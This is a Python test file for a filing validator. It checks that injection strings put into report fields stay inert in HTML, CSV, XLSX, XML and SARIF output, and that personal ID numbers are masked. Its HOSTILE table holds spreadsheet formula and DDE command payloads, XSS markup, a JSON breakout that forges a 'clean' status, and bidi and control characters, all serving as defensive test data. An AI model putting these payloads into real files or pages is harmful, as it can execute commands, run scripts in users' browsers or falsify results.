"""What looks like markup, a formula or an escape does nothing in any format: it stays the text it is."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from tests.books import data
from tests.command import TODAY, Gouji
from tests.writers.reports import of, written
from validator.api import fill
from validator.exchange.filing_data import FilingData
from validator.files.harmless import one_line
from validator.model.report import FileReport
from validator.writers.formats import names

HOSTILE = {
    "formula": '=HYPERLINK("http://127.0.0.1:9/?"&D8,"看")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+9)",
    "full-width": "＝1+1",
    "tab": "\t=1+1",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "comment": "<!--<script>",
    "quotes": "\"'`><svg onload=alert(1)>",
    "entity": "&lt;script&gt; ]]> <![CDATA[",
    "JSON": '"}],"status":"clean',
    "turned": "甲\u202e乙\u2066丙\u200f",
    "control": "\x1b[31m红\x07\x9b",
    "lines": "一\n二\u2028三\x85四",
    "no character": "甲\ufffe乙",
}
MARKUP = tuple(HOSTILE[name] for name in ("script", "comment", "quotes", "entity"))
COUNT = "表三.本年新收.自然人"
ID_NUMBER = "11010519491231002X"


@cache
def report(text: str) -> FileReport:
    """The text wherever a filing takes one."""
    waiver = {"code": text[:40], "cell": text[:40], "reason": text, "by": text, "date": text[:20]}
    base = data("clean")
    given: FilingData = replace(
        base,
        organ=f"{text}市",
        values={**base.values, COUNT: text},
        text={**base.text, "标题": text, "五": text, "六": f"{base.text['六']}\n{text}"},
        waivers=(waiver,),
    )
    return of(given, f"in/{text.replace('/', '')}.xlsx")


class Elements(HTMLParser):
    """The elements and attributes of a page, and its texts apart from script and style."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.attributes: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)
        self.attributes |= {name for name, _ in attrs}


def page(texts: Iterable[str]) -> str:
    return written("html", [report(text) for text in texts]).decode()


COUNTED = ("script", "style", "img", "svg", "a", "iframe", "template", "noscript", "meta", "link")


@pytest.mark.parametrize("texts", [*((text,) for text in MARKUP), tuple(HOSTILE.values())], ids=str)
def test_a_page_has_the_elements_that_it_has_without_it(texts: tuple[str, ...]) -> None:
    """As many of each as for a harmless text, script and handlers above all."""
    seen, plain = Elements(page(texts)), Elements(page(["某某"] * len(texts)))
    assert {tag: seen.found.count(tag) for tag in COUNTED} == {tag: plain.found.count(tag) for tag in COUNTED}
    assert not {one for one in seen.attributes if one.startswith("on")}
    assert "src" not in seen.attributes


def every() -> list[FileReport]:
    return [report(text) for text in HOSTILE.values()]


@pytest.mark.parametrize("shape", [name for name in names() if name != "xlsx"])
def test_no_character_is_obeyed(shape: str) -> None:
    content = written(shape, every()).decode()
    kinds = {one for one in content if unicodedata.category(one) in {"Cc", "Cf", "Zl", "Zp", "Cs"}}
    assert kinds <= {"\n"}


def test_no_cell_of_csv_begins_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(written("csv", every()).decode())))
    assert len(rows) == 1 + len(HOSTILE)
    for cell in (cell for row in rows[1:] for cell in row):
        begins = cell.lstrip().startswith(("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"))
        assert not begins or re.fullmatch(r"-?\d+(\.\d+)?", cell)


FORMULAS = {"formula", "command", "plus", "minus", "at", "full-width", "tab"}


def test_no_cell_of_xlsx_is_a_formula_or_a_link() -> None:
    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", every())))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell for cell in cells if cell.hyperlink]
    for row, (name, text) in enumerate(HOSTILE.items(), 2):
        cell = book["各单位"][f"B{row}"]
        assert cell.value == one_line(report(text).organ).replace("\ufffe", "\ufffd")
        assert cell.quotePrefix is (name in FORMULAS)


def test_xml_and_json_are_what_they_were() -> None:
    organs = [one_line(one.organ) for one in every()]
    suites = ET.fromstring(written("junit", every()))  # noqa: S314  our own
    assert [suite.attrib["package"] for suite in suites] == [one.replace("\ufffe", "\ufffd") for one in organs]
    (run,) = json.loads(written("sarif", every()))["runs"]
    assert {one["properties"]["organ"] for one in run["results"]} == set(organs)


@pytest.mark.parametrize("shape", names())
def test_numbers_of_persons_are_masked(gouji: Gouji, tmp_path: Path, shape: str) -> None:
    """Also those in a cell, a text that is shown whole, and the name of a sheet."""
    base = data("must")
    given = replace(
        base,
        values={**base.values, COUNT: ID_NUMBER},
        text={**base.text, "五": f"联系人身份证{ID_NUMBER}，没有问题。"},
    )
    (tmp_path / "a.xlsx").write_bytes(fill(given))
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    book["四、复议诉讼"].title = ID_NUMBER
    book.save(tmp_path / "a.xlsx")
    out = tmp_path / "out"
    gouji("check", tmp_path / "a.xlsx", *TODAY, "--format", shape, "-o", out)
    content = out.read_bytes()
    if shape == "xlsx":
        sheets = openpyxl.load_workbook(io.BytesIO(content))
        content = repr([row for sheet in sheets for row in sheet.iter_rows(values_only=True)]).encode()
    assert content
    assert ID_NUMBER.encode() not in content
    assert b"4 T4-01" not in content
